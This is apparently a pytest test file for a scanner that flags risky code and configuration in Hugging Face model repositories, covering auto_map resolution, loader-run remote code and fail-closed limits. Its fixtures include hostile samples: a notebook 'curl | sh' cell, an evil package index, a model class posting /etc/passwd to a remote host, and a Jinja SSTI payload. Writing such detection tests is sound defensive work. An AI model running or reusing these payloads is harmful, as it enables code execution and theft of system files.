"""Repository-level checks: auto_map resolution, code files, templates, scripts, LFS pointers."""

from __future__ import annotations

import hashlib
import json

import pytest

from scanner.findings import Severity
from tests.harness import rule_ids, scan_files

BENIGN_PY = "import torch\nfrom .utils import helper\n\nclass M(torch.nn.Module):\n    pass\n"


def _cfg(**kw: object) -> str:
    return json.dumps({"model_type": "x", **kw})


def test_auto_map_resolution_and_relative_imports() -> None:
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
            "modeling_m.py": BENIGN_PY,
            "utils.py": "import os\ndef helper():\n    os.system('x')\n",
        }
    )
    remote = [f for f in res["config.json"].findings if f.rule_id == "HF-REMOTE-CODE"]
    assert len(remote) == 1
    ev = remote[0].evidence
    assert ev["files"] == ["modeling_m.py", "utils.py"] and ev["class_defined_in_file"] is True
    assert ev["worst_severity"] == "high"
    assert "PY-DANGEROUS-CALL" in rule_ids(res["utils.py"])


def test_missing_relative_import_and_target() -> None:
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M", "AutoConfig": "nope.C"}),
            "modeling_m.py": BENIGN_PY,
        }
    )
    miss = [f for f in res["config.json"].findings if f.rule_id == "HF-AUTOMAP-MISSING"]
    assert {f.severity for f in miss} == {Severity.HIGH, Severity.MEDIUM}


def test_tokenizer_list_values_and_cross_repo() -> None:
    tok = json.dumps({"auto_map": {"AutoTokenizer": ["tok.Slow", "other/repo--tok.Fast"]}})
    res = scan_files({"tokenizer_config.json": tok, "tok.py": "class Slow:\n    pass\n"})
    assert {"HF-REMOTE-CODE", "HF-AUTOMAP-CROSS-REPO"} <= rule_ids(res["tokenizer_config.json"])


def test_subfolder_config_resolves_relative_to_its_folder() -> None:
    res = scan_files(
        {"sub/config.json": _cfg(auto_map={"AutoModel": "mod.M"}), "sub/mod.py": "class M:\n    pass\n"}
    )
    assert "HF-AUTOMAP-MISSING" not in rule_ids(res)
    assert "HF-REMOTE-CODE" in rule_ids(res["sub/config.json"])


def test_custom_pipelines_custom_generate_modules_json_model_index() -> None:
    res = scan_files(
        {
            "config.json": _cfg(custom_pipelines={"text-gen": {"impl": "pipe.P"}}),
            "pipe.py": "class P:\n    pass\n",
            "custom_generate/generate.py": "def generate(model):\n    return 1\n",
            "modules.json": json.dumps(
                [
                    {"idx": 0, "type": "sentence_transformers.models.Transformer"},
                    {"idx": 1, "name": "c", "type": "custom_st.Pool"},
                ]
            ),
            "custom_st.py": "class Pool:\n    pass\n",
            "model_index.json": json.dumps(
                {
                    "_class_name": "StableDiffusionPipeline",
                    "unet": ["diffusers", "UNet2DModel"],
                    "scheduler": ["my_sched", "S"],
                }
            ),
            "scheduler/my_sched.py": "class S:\n    pass\n",
        }
    )
    keys = {
        f.evidence.get("key") for fr in res.values() for f in fr.findings if f.rule_id == "HF-REMOTE-CODE"
    }
    assert {"custom_pipelines.text-gen", "custom_generate", "modules.c", "model_index.scheduler"} <= keys


def test_trust_remote_code_flag() -> None:
    res = scan_files({"config.json": _cfg(trust_remote_code=True)})
    assert rule_ids(res["config.json"]) == {"HF-TRUST-REMOTE-CODE-FLAG"}


def test_chat_templates_from_jinja_file_and_config() -> None:
    bad = "{{ self.__init__.__globals__ }}"
    res = scan_files(
        {
            "chat_template.jinja": bad,
            "tokenizer_config.json": json.dumps(
                {"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}
            ),
        }
    )
    assert "TEMPLATE-SSTI" in rule_ids(res["chat_template.jinja"])
    assert not res["tokenizer_config.json"].findings


def test_python2_file_reported_unparseable() -> None:
    res = scan_files({"tokenization_old.py": 'print "hi"\n'})
    assert "PY-UNPARSEABLE" in rule_ids(res["tokenization_old.py"])


def test_scripts_requirements_native() -> None:
    res = scan_files(
        {
            "run.sh": "pip install x\n",
            "requirements.txt": "torch\n--extra-index-url http://evil/simple\n",
            "lib.so": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(40),
            "model.dll": b"MZ"
            + bytes(0x3A)
            + (0x40).to_bytes(4, "little")
            + b"PE\x00\x00\x64\x86"
            + bytes(18),
        }
    )
    assert "HF-SHELL-SCRIPT" in rule_ids(res["run.sh"])
    req = [f for f in res["requirements.txt"].findings if f.rule_id == "HF-REQUIREMENTS"]
    assert req and req[0].severity is Severity.MEDIUM
    assert res["lib.so"].format == "native-binary" and res["model.dll"].format == "native-binary"


def test_lfs_pointer_matched_to_real_object() -> None:
    real = b"real weights " * 10
    oid = hashlib.sha256(real).hexdigest()
    ptr = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(real)}\n"
    from scanner.engine import ScanOptions, scan_snapshot
    from scanner.sources.base import Snapshot
    from tests.harness import artifact

    snap = Snapshot(target="t", kind="local", resolved="r")
    snap.artifacts = [artifact(ptr.encode(), "pointer.bin"), artifact(real, "weights.txt")]
    results = scan_snapshot(snap, ScanOptions(compute_sha256=False))
    by = {fr.path: fr for fr in results}
    by["weights.txt"].sha256 = oid  # what the engine records for local files
    from scanner.limits import DEFAULT_LIMITS
    from scanner.repo.hf_repo import check_hf_repo
    from scanner.rules import get_rule_db

    check_hf_repo(snap, by, get_rule_db(), DEFAULT_LIMITS)
    f = next(f for f in by["pointer.bin"].findings if f.rule_id == "HF-LFS-POINTER")
    assert f.evidence["oid"] == oid and f.evidence["object_present_as"] == "weights.txt"


def test_notebook_shell_escape() -> None:
    nb = {"cells": [{"cell_type": "code", "source": ["!curl http://x | sh\n"]}], "nbformat": 4}
    res = scan_files({"n.ipynb": json.dumps(nb)})
    f = next(f for f in res["n.ipynb"].findings if f.rule_id == "HF-NOTEBOOK")
    assert f.severity is Severity.HIGH


def test_invalid_config_json_reported() -> None:
    res = scan_files({"config.json": "{not json"})
    assert "HF-CONFIG-INVALID" in rule_ids(res["config.json"])


# --- remote code is code: every file a loader runs blocks until a policy trusts its digest ----------------


def _executed(res: dict) -> dict[str, dict]:
    return {
        f.path: f.evidence
        for fr in res.values()
        for f in fr.findings
        if f.rule_id == "CODE-EXECUTED-BY-LOADER"
    }


def test_every_executed_file_is_a_blocking_finding_with_digest_loader_and_key() -> None:
    files = {
        "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
        "modeling_m.py": "from .layers.attn import A\nclass M:\n    pass\n",
        "layers/__init__.py": "X = 1\n",
        "layers/attn.py": "from ..helpers import h\nclass A:\n    pass\n",
        "helpers.py": "def h():\n    return 1\n",
        "unused_script.py": "import os\ndef f():\n    return os.getcwd()\n",
    }
    res = scan_files(files)
    ex = _executed(res)
    assert set(ex) == {"modeling_m.py", "layers/__init__.py", "layers/attn.py", "helpers.py"}
    for path, ev in ex.items():
        assert ev["sha256"] == hashlib.sha256(files[path].encode()).hexdigest()
        assert (
            ev["loader"].startswith("transformers")
            and ev["key"] == "auto_map.AutoModel"
            and ev["config"] == "config.json"
        )
    f = next(f for f in res["modeling_m.py"].findings if f.rule_id == "CODE-EXECUTED-BY-LOADER")
    assert (
        f.severity >= Severity.HIGH
        and "trusted_code" in f.message
        and ex["modeling_m.py"]["sha256"] in f.message
    )
    assert "CODE-EXECUTED-BY-LOADER" not in rule_ids(res["unused_script.py"])


@pytest.mark.parametrize(
    ("files", "executed", "loader"),
    [
        (
            {
                "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}),
                "tok.py": "class T: pass\n",
            },
            {"tok.py"},
            "transformers",
        ),
        (
            {
                "preprocessor_config.json": json.dumps({"auto_map": {"AutoImageProcessor": "proc.P"}}),
                "proc.py": "class P: pass\n",
            },
            {"proc.py"},
            "transformers",
        ),
        (
            {
                "processor_config.json": json.dumps({"auto_map": {"AutoProcessor": "proc.P"}}),
                "proc.py": "class P: pass\n",
            },
            {"proc.py"},
            "transformers",
        ),
        (
            {
                "adapter_config.json": json.dumps({"auto_map": {"AutoModel": "peft_mod.M"}}),
                "peft_mod.py": "class M: pass\n",
            },
            {"peft_mod.py"},
            "peft",
        ),
        (
            {
                "config.json": _cfg(custom_pipelines={"x": {"impl": "pipe.P"}}),
                "pipe.py": "from .u import k\nclass P: pass\n",
                "u.py": "k = 1\n",
            },
            {"pipe.py", "u.py"},
            "transformers pipeline",
        ),
        (
            {
                "model_index.json": json.dumps(
                    {"_class_name": ["my_pipeline", "MyPipe"], "unet": ["diffusers", "UNet2DModel"]}
                ),
                "my_pipeline.py": "class MyPipe: pass\n",
            },
            {"my_pipeline.py"},
            "diffusers",
        ),
        (
            {
                "model_index.json": json.dumps({"_class_name": "X", "unet": ["my_unet", "U"]}),
                "unet/my_unet.py": "class U: pass\n",
            },
            {"unet/my_unet.py"},
            "diffusers",
        ),
        (
            {
                "modules.json": json.dumps([{"idx": 0, "name": "0", "type": "custom_st.Pool"}]),
                "custom_st.py": "class Pool: pass\n",
            },
            {"custom_st.py"},
            "sentence-transformers",
        ),
        (
            {
                "custom_generate/generate.py": "from .util import g\ndef generate(m):\n    return g()\n",
                "custom_generate/util.py": "def g():\n    return 1\n",
            },
            {"custom_generate/generate.py", "custom_generate/util.py"},
            "transformers generate",
        ),
    ],
)
def test_each_loader_carrier(files: dict, executed: set, loader: str) -> None:
    ex = _executed(scan_files(files))
    assert set(ex) == executed
    assert all(ev["loader"].startswith(loader) for ev in ex.values())


def test_files_transformers_fetches_by_its_regex_are_executed_code_too() -> None:
    """dynamic_module_utils.get_relative_imports matches lines inside strings as well; those files get fetched."""
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
            "modeling_m.py": 'DOC = """\nfrom .hidden import x\n"""\nclass M:\n    pass\n',
            "hidden.py": "import os\nos.system('id')\n",
        }
    )
    assert "hidden.py" in _executed(res)


def test_benign_layout_without_custom_code_has_no_executed_code() -> None:
    res = scan_files(
        {
            "config.json": _cfg(architectures=["BertModel"]),
            "tokenizer_config.json": json.dumps({"do_lower_case": True}),
            "vocab.txt": "[PAD]\n[UNK]\nhello\n",
            "special_tokens_map.json": json.dumps({"unk_token": "[UNK]"}),
        }
    )
    assert not _executed(res)
    assert all(f.severity <= Severity.LOW for fr in res.values() for f in fr.findings), [
        (f.rule_id, f.message) for fr in res.values() for f in fr.findings
    ]


def test_unparseable_executed_code_fails_closed() -> None:
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
            "modeling_m.py": 'print "py2"\nclass M:\n  pass\n',
        }
    )
    fr = res["modeling_m.py"]
    unp = [f for f in fr.findings if f.rule_id == "PY-UNPARSEABLE"]
    assert unp and unp[0].severity >= Severity.HIGH
    assert fr.coverage.value != "full"


def test_oversized_python_fails_closed(monkeypatch) -> None:
    from scanner.analysis import python_ast

    monkeypatch.setattr(python_ast, "MAX_SOURCE_BYTES", 4096)  # read where it is used, by every carrier
    padded = (
        "#" * 5000 + "\nimport os\nos.system('id')\nclass M:\n    pass\n"
    )  # head does not look like Python
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
            "modeling_m.py": padded,
            "loose.py": "x = 1\n" * 1000,
        }
    )
    for path in ("modeling_m.py", "loose.py"):
        fr = res[path]
        assert "LIMIT-EXCEEDED" in rule_ids(fr), (path, fr.format, rule_ids(fr))
        assert fr.coverage.value != "full"
    assert _executed(res)["modeling_m.py"]["sha256"] == hashlib.sha256(padded.encode()).hexdigest()


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('{"auto_map": ' * 5000 + "1" + "}" * 5000, "LIMIT-EXCEEDED"),
        ('{"auto_map": {"AutoModel": "m.M"}', "HF-CONFIG-INVALID"),
    ],
)
def test_config_not_read_whole_fails_closed(text: str, rule: str) -> None:
    fr = scan_files({"config.json": text, "m.py": "class M: pass\n"})["config.json"]
    hits = [f for f in fr.findings if f.rule_id == rule]
    assert hits and hits[0].severity >= Severity.HIGH
    assert fr.coverage.value != "full"


def test_oversized_chat_template_file_fails_closed(monkeypatch) -> None:
    from scanner.repo import hf_repo

    monkeypatch.setattr(hf_repo, "MAX_TEMPLATE_BYTES", 1000)
    fr = scan_files({"chat_template.jinja": "{{ messages }}" + " " * 2000})["chat_template.jinja"]
    assert "LIMIT-EXCEEDED" in rule_ids(fr) and fr.coverage.value != "full"


def test_peft_auto_mapping_parent_library() -> None:
    ok = scan_files(
        {
            "adapter_config.json": json.dumps(
                {
                    "auto_mapping": {
                        "base_model_class": "LlamaForCausalLM",
                        "parent_library": "transformers.models.llama",
                    }
                }
            )
        }
    )
    assert not rule_ids(ok) & {"HF-REMOTE-CODE", "CODE-EXECUTED-BY-LOADER"}
    res = scan_files(
        {
            "adapter_config.json": json.dumps(
                {"auto_mapping": {"base_model_class": "M", "parent_library": "evil_mod"}}
            ),
            "evil_mod.py": "import os\nos.system('id')\nclass M: pass\n",
        }
    )
    assert "evil_mod.py" in _executed(res)
    f = next(f for f in res["adapter_config.json"].findings if f.rule_id == "HF-REMOTE-CODE")
    assert f.severity is Severity.HIGH


def test_oversized_py_anywhere_is_judged_as_code_and_fails_closed() -> None:
    from tests.harness import inspect_bytes

    fr = inspect_bytes(b"#" * (8 << 20) + b"\nimport os\nos.system('id')\n", "archive!pkg/big.py")
    assert fr.format == "python-source" and "LIMIT-EXCEEDED" in rule_ids(fr) and fr.coverage.value != "full"


def test_relative_dynamic_import_is_followed() -> None:
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
            "modeling_m.py": "import importlib\nimportlib.import_module('.payload', __package__)\nclass M:\n    pass\n",
            "payload.py": "x = 1\n",
        }
    )
    assert "payload.py" in _executed(res)


def test_effects_in_loader_called_functions_block_only_in_code_a_loader_runs() -> None:
    body = "import requests\nclass M:\n    def __init__(self):\n        requests.post('http://x', data=open('/etc/passwd').read())\n"
    res = scan_files(
        {"config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}), "modeling_m.py": body, "tool.py": body}
    )
    loaded = {f.rule_id: f.severity for f in res["modeling_m.py"].findings}
    loose = {f.rule_id: f.severity for f in res["tool.py"].findings}
    assert loaded["PY-LOAD-TIME-SIDE-EFFECT"] is Severity.HIGH
    assert loose["PY-LOAD-TIME-SIDE-EFFECT"] is Severity.MEDIUM


def test_executed_code_is_analyzed_whatever_content_detection_called_it() -> None:
    body = "#!/bin/sh\nimport os\nos.system('id')\nclass M:\n    pass\n"  # Python reads line 1 as a comment
    res = scan_files({"config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}), "modeling_m.py": body})
    sev = {f.rule_id: f.severity for f in res["modeling_m.py"].findings}
    assert sev.get("PY-DANGEROUS-CALL") is Severity.CRITICAL, sev


def test_network_anywhere_in_executed_code_is_high() -> None:
    helper = "import urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n"
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}),
            "modeling_m.py": "from .net import fetch\nclass M:\n    pass\n",
            "net.py": helper,
            "scripts_fetch.py": helper,
        }
    )
    assert {f.rule_id: f.severity for f in res["net.py"].findings}["PY-NETWORK-CALL"] is Severity.HIGH
    assert {f.rule_id: f.severity for f in res["scripts_fetch.py"].findings}[
        "PY-NETWORK-CALL"
    ] is Severity.MEDIUM


def test_functions_another_executed_file_calls_on_load_are_loader_reached() -> None:
    """Confirmed with transformers 5.24: AutoConfig.from_pretrained(trust_remote_code=True) imports
    configuration_x.py, whose import-time call runs helpers.touch()."""
    res = scan_files(
        {
            "config.json": _cfg(auto_map={"AutoConfig": "configuration_x.XConfig"}),
            "configuration_x.py": "from .helpers import touch\nfrom . import netutil\ntouch('/tmp/c')\n"
            "class XConfig:\n    def __init__(self):\n        netutil.ping()\n",
            "helpers.py": "import pathlib\ndef touch(p):\n    pathlib.Path(p).write_text('ran')\n",
            "netutil.py": "import socket\ndef ping():\n    socket.create_connection(('h', 1))\n",
        }
    )
    helpers = {f.rule_id: f.severity for f in res["helpers.py"].findings}
    netutil = {f.rule_id: f.severity for f in res["netutil.py"].findings}
    assert helpers.get("PY-LOAD-TIME-SIDE-EFFECT") is Severity.HIGH, helpers
    assert netutil.get("PY-LOAD-TIME-SIDE-EFFECT") is Severity.HIGH, netutil


@pytest.mark.parametrize(
    "files",
    [
        {  # diffusers
            "model_index.json": json.dumps(
                {
                    "_class_name": "StableDiffusionPipeline",
                    "_diffusers_version": "0.30.0",
                    "unet": ["diffusers", "UNet2DConditionModel"],
                    "text_encoder": ["transformers", "CLIPTextModel"],
                    "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                    "feature_extractor": [None, None],
                    "requires_safety_checker": True,
                }
            ),
            "unet/config.json": _cfg(_class_name="UNet2DConditionModel"),
            "scheduler/scheduler_config.json": json.dumps({"_class_name": "PNDMScheduler"}),
        },
        {  # sentence-transformers
            "modules.json": json.dumps(
                [
                    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                    {
                        "idx": 1,
                        "name": "1",
                        "path": "1_Pooling",
                        "type": "sentence_transformers.models.Pooling",
                    },
                ]
            ),
            "1_Pooling/config.json": json.dumps(
                {"word_embedding_dimension": 384, "pooling_mode_mean_tokens": True}
            ),
            "config_sentence_transformers.json": json.dumps(
                {"__version__": {"sentence_transformers": "3.0.1"}}
            ),
            "config.json": _cfg(architectures=["BertModel"]),
        },
        {  # PEFT adapter
            "adapter_config.json": json.dumps(
                {
                    "peft_type": "LORA",
                    "base_model_name_or_path": "meta-llama/Llama-2-7b-hf",
                    "auto_mapping": None,
                    "target_modules": ["q_proj", "v_proj"],
                }
            ),
        },
    ],
    ids=["diffusers", "sentence-transformers", "peft"],
)
def test_benign_layouts_without_custom_code(files: dict) -> None:
    res = scan_files(files)
    assert not _executed(res)
    assert all(f.severity <= Severity.LOW for fr in res.values() for f in fr.findings), [
        (f.rule_id, f.message) for fr in res.values() for f in fr.findings
    ]
